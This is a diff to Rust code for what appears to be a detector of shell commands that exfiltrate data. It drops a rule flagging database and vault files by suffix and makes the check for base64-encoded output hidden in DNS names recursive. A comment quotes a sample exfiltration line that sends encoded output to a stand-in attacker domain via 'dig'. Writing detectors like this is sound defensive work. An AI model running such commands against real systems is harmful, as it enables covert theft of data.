@@ -100,7 +100,7 @@ fn sureness(taint: &Taint, sending: &Sending) -> Option<Certainty> {
 
 fn taint(part: &Part, sending: &Sending, inv: &Invocation, cx: &Cx, flow: &Flow) -> Option<Taint> {
     match part {
-        Part::File(value) => flow.sent(value, inv, cx.index).or_else(|| database(value)),
+        Part::File(value) => flow.sent(value, inv, cx.index),
         Part::Stdin => flow.input(inv, cx.index, 0),
         Part::Output => flow.output(cx.index, 0),
         Part::Repository => None,
@@ -109,13 +109,6 @@ fn taint(part: &Part, sending: &Sending, inv: &Invocation, cx: &Cx, flow: &Flow)
             (is_whole_file(&taint, value, cx) || !is_login(&taint, value, *role, sending)).then_some(taint)
         }
     }
-}
-
-/// A database by the name of its file.
-fn database(value: &Value) -> Option<Taint> {
-    const ENDS: &[&str] = &[".db", ".sqlite", ".sqlite3", ".db3", ".rdb", ".mdb", ".dump", ".sql.gz", ".kdbx"];
-    let ends = ENDS.iter().any(|end| value.suffix().ends_with(end));
-    ends.then(|| Taint { what: "a database".to_owned(), class: Class::Tree, variable: None, sure: false })
 }
 
 /// What turns up in a name only to be carried away by it.
@@ -138,17 +131,18 @@ fn is_whole_file(taint: &Taint, value: &Value, cx: &Cx) -> bool {
 
 /// `dig $(… | base64).evil.example`: output that somebody took care to encode as a name.
 fn encoded_name(value: &Value, role: Role, cx: &Cx) -> Option<Taint> {
-    let encoder = |index: usize| {
-        cx.line.invocations.get(index).and_then(Invocation::name).is_some_and(|name| ENCODERS.contains(&name))
-    };
-    let below = |index: usize| match cx.line.invocations.get(index).map(|inv| &inv.stdin) {
-        Some(Stdin::Pipe(from)) => from.iter().take(16).any(|from| encoder(*from)),
-        _ => false,
-    };
+    fn encoded(index: usize, cx: &Cx, depth: u8) -> bool {
+        let (Some(inv), Some(depth)) = (cx.line.invocations.get(index), depth.checked_sub(1)) else { return false };
+        let below = || match &inv.stdin {
+            Stdin::Pipe(from) => from.iter().take(4).any(|from| encoded(*from, cx, depth)),
+            _ => false,
+        };
+        inv.name().is_some_and(|name| ENCODERS.contains(&name)) || below()
+    }
     let tells = |unknown: &Unknown| matches!(unknown.origin, Origin::Other("user name" | "user id" | "checksum"));
     let named = role == Role::Name
         && value.suffix().contains('.')
-        && (value.sources().take(16).any(|index| encoder(index) || below(index)) || value.unknowns().any(tells));
+        && (value.sources().take(16).any(|index| encoded(index, cx, 4)) || value.unknowns().any(tells));
     named.then(|| Taint { what: "encoded output".to_owned(), class: Class::Account, variable: None, sure: false })
 }
 
